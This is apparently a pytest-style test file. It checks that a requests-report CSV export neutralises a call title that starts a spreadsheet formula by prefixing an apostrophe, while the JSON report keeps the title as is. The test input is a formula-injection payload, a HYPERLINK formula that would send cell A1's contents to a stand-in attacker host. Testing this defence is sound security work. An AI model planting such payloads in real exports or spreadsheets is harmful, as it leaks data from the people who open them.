"""The requests report CSV writes a caller's text that starts a formula as text."""

import csv
import io
from typing import Any

import httpx

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


async def test_a_call_title_starting_a_formula_is_reported_as_text(
    api: Any, clock: Any, client: httpx.AsyncClient, rwanda: dict[str, str]
) -> None:
    call = await api.create_call(title=FORMULA)
    await api.submit(rwanda, call["id"])
    response = await client.get("/v1/requests/reports/csv", headers=api.staff)
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text)))
    [row] = [r for r in rows if r["dimension"] == "call"]
    assert (row["key"], row["label"], row["count"]) == (call["id"], "'" + FORMULA, "1")
    json_report = await client.get("/v1/requests/reports", headers=api.staff)
    assert json_report.json()["by_call"][0]["label"] == FORMULA  # JSON keeps the text as is
